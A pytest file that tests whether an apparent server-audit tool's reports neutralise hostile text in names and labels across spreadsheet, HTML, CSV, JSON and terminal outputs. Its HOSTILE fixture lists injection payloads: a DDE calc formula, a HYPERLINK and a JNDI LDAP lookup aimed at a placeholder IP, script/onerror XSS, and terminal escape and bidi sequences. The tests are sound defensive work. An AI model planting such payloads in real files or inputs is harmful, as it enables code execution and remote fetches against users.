"""Text from strangers: the verdict, the reason and the very cell are as they should be, whatever a name holds."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest
from rich.console import Console

from auditor.order import Order
from auditor.records import ProbeRow, Reading, Subject
from auditor.report import write
from auditor.report.terminal import print_judgement
from auditor.runs import State
from tests.report import reading_back, samples
from tests.report.reading_back import load_workbook

HOSTILE = {
    "formula": "=cmd|'/C calc'!A0",
    "link": '=HYPERLINK("http://192.0.2.1/x","click")',
    "plus": "+1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "error": "#N/A",
    "fullwidth": "＝1+1",
    "escape": "\x1b]0;owned\x07\x1b[31mred",
    "bidi": "gpu\u202e10-\u2066txt",
    "zero-width": "gpu\u200b-01",
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "template": "{{ 7*7 }} {server} %s ${jndi:ldap://192.0.2.1}",
    "newline": "gpu\n-01",
    "null": "gpu\x00\ufffe",
    "long": "a" * 300,
    "marks": "e" + "\u0301" * 400,
}


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A run in which everything a stranger may write is hostile, in every format."""
    records, labels, orders = {}, {}, {}
    for number, (kind, text) in enumerate(HOSTILE.items()):
        name = f"srv-{number:02d}"
        made = samples.a100(name, gpus=2)
        readings = tuple(_poisoned(row, text) for row in made.readings)
        extra = (
            Reading("unheard_of", "unheard_of_quantity", "server", text, "measured", {"note": text}),
            Reading("unheard_of", "unheard_of_amount", "gpu0", 12.5, "measured", {"note": text}),
        )
        subjects = tuple(replace(s, name=text, uuid=text) if s.kind == "gpu" else s for s in made.subjects)
        probes = (*made.probes, ProbeRow("storage", 1, "server", "failed", text, 0.0, (text,)))
        records[name] = replace(made, readings=readings + extra, subjects=subjects, probes=probes)
        labels[name] = text
        orders[name] = Order(gpus=2, gpu="A100-SXM4-80GB", currency=text, price_per_hour=1.0)
        if kind == "long":
            records[name] = replace(records[name], subjects=(*subjects, Subject("nic0", "nic", 0, None, None, text)))
    given = samples.given(records, orders, labels, states={"srv-00": State("done", None, HOSTILE["escape"])})
    folder = tmp_path_factory.mktemp("hostile")
    made_files = write(given, folder, ["xlsx", "html", "json", "junit", "prometheus", "csv"])
    return {path.suffix + path.stem[:4]: path for path in made_files}


def _poisoned(row: Reading, text: str) -> Reading:
    if row.metric in ("server_facts_hostname", "gpu_identity_serial", "server_facts_os", "server_facts_cpu_model"):
        return replace(row, value=text)
    return row


def _file(written: dict[str, Path], suffix: str) -> Path:
    return next(path for path in written.values() if path.name.endswith(suffix))


def test_the_workbook_has_no_formula_link_or_hidden_character(written: dict[str, Path]) -> None:
    """0 formula cells, 0 links, every part is XML, and nothing that steers a reader is in any cell."""
    path = _file(written, "report.xlsx")
    assert reading_back.faults(path) == []
    for sheet in load_workbook(path).worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                if isinstance(cell.value, str):
                    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069\u200b\ufffe]", cell.value)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)


def test_verdict_reason_and_cell_are_right_for_every_hostile_name(written: dict[str, Path]) -> None:
    """A server with a hostile label is judged like any other and its row says the label as text."""
    servers = reading_back.table(_file(written, "report.xlsx"), "Servers")
    assert len(servers) == len(HOSTILE)
    by_name = {row["Inventory name"]: row for row in servers}
    for number, kind in enumerate(HOSTILE):
        row = by_name[f"srv-{number:02d}"]
        assert row["Verdict"] in ("✔ accept", "! review"), (kind, row["Verdict"], row["Why"])
        assert row["Server"], kind
    assert by_name["srv-00"]["Server"] == HOSTILE["formula"]
    assert by_name["srv-05"]["Server"] == "#N/A"
    assert by_name["srv-07"]["Server"] == "\\x1b]0;owned\\x07\\x1b[31mred"
    assert by_name["srv-08"]["Server"] == "gpu\\u202e10-\\u2066txt"
    assert str(by_name["srv-14"]["Server"]).endswith("…") and len(str(by_name["srv-14"]["Server"])) == 80


def test_a_cell_that_starts_like_a_formula_is_kept_as_text_when_edited(written: dict[str, Path]) -> None:
    """The quote prefix is set, so that Excel does not calculate the text after somebody edits the cell."""
    sheet = load_workbook(_file(written, "report.xlsx"))["Servers"]
    cell = next(line[0] for line in sheet.iter_rows(min_row=5) if line[0].value == HOSTILE["formula"])
    assert cell.data_type == "s" and cell.quotePrefix


def test_readings_of_an_unknown_metric_are_shown(written: dict[str, Path]) -> None:
    """A metric nobody documented stands on Readings with its value, and its figure is not converted."""
    rows = reading_back.table(_file(written, "report.xlsx"), "Readings")
    found = [row for row in rows if row["Metric"] == "unheard_of_amount"]
    assert len(found) == len(HOSTILE) and all(row["Shown"] == 12.5 for row in found)
    texts = [row["Value in base units"] for row in rows if row["Metric"] == "unheard_of_quantity"]
    assert HOSTILE["formula"] in texts and HOSTILE["template"] in texts


def test_a_text_of_a_million_characters_is_cut_with_a_mark(tmp_path: Path) -> None:
    """Excel holds 32,767 characters in a cell; what is longer ends with a mark."""
    made = samples.a100(gpus=1)
    long = Reading("unheard_of", "unheard_of_text", "server", "x" * 1_000_000, "measured")
    path = write(samples.given({"gpu-01": replace(made, readings=(*made.readings, long))}), tmp_path, {"xlsx"})[0]
    row = next(r for r in reading_back.table(path, "Readings") if r["Metric"] == "unheard_of_text")
    assert len(str(row["Value in base units"])) <= 32_767 and str(row["Value in base units"]).endswith("…")


def test_the_html_holds_no_element_or_handler_of_a_stranger(written: dict[str, Path]) -> None:
    """Markup in names is text; one script and one style sheet are in the page, both ours."""
    text = _file(written, "report.html").read_text(encoding="utf-8")
    assert text.count("<script") == 1 and text.count("<style") == 1
    assert "<img" not in text and not re.search(r"<[^>]+\son\w+=", text)
    assert "&lt;script&gt;alert(1)" in text and "49" not in re.findall(r"\{\{ 7\*7 \}\}|\b49 \{server\}", text)
    assert "\u202e" not in text and "\x1b" not in text


def test_csv_cells_that_a_spreadsheet_would_calculate_get_a_quote(written: dict[str, Path]) -> None:
    """Every text that starts like a formula, full-width signs too, has a leading quote; figures have none."""
    rows = list(csv.reader(io.StringIO(_file(written, "readings.csv").read_text(encoding="utf-8-sig"))))
    values = [cell for row in rows for cell in row]
    assert f"'{HOSTILE['formula']}" in values and f"'{HOSTILE['fullwidth']}" in values
    bad = [cell for cell in values if cell.startswith(("=", "+", "@", "＝")) or re.match(r"-(?![\d.]+$)", cell)]
    assert bad == []


def test_machine_formats_are_still_parsed(written: dict[str, Path]) -> None:
    """JSON and JUnit stay readable, with the text inside as it was or visibly escaped."""
    document = json.loads(_file(written, "report.json").read_text(encoding="utf-8"))
    assert document["servers"][0]["label"] == HOSTILE["formula"]
    cases = ElementTree.parse(_file(written, ".junit.xml")).getroot().iter("testcase")
    assert len(list(cases)) == len(HOSTILE)
    lines = _file(written, "report.prom").read_text(encoding="utf-8").splitlines()
    sample = re.compile(r'[a-z_]+\{(?:[a-z_0-9]+="(?:[^"\\\n]|\\.)*",?)+\} -?[0-9.e+]+')
    assert all(line.startswith("# ") or sample.fullmatch(line) for line in lines)


def test_the_terminal_gets_no_escape_but_our_own(tmp_path: Path) -> None:
    """Bytes on the screen hold no ESC, BEL, CR or bidi control of a stranger."""
    records = {f"srv-{n:02d}": samples.a100(f"srv-{n:02d}", gpus=1) for n in range(len(HOSTILE))}
    labels = {f"srv-{n:02d}": text for n, text in enumerate(HOSTILE.values())}
    stream = io.StringIO()
    print_judgement(samples.given(records, labels=labels), Console(file=stream, highlight=False, width=120))
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]", stream.getvalue())
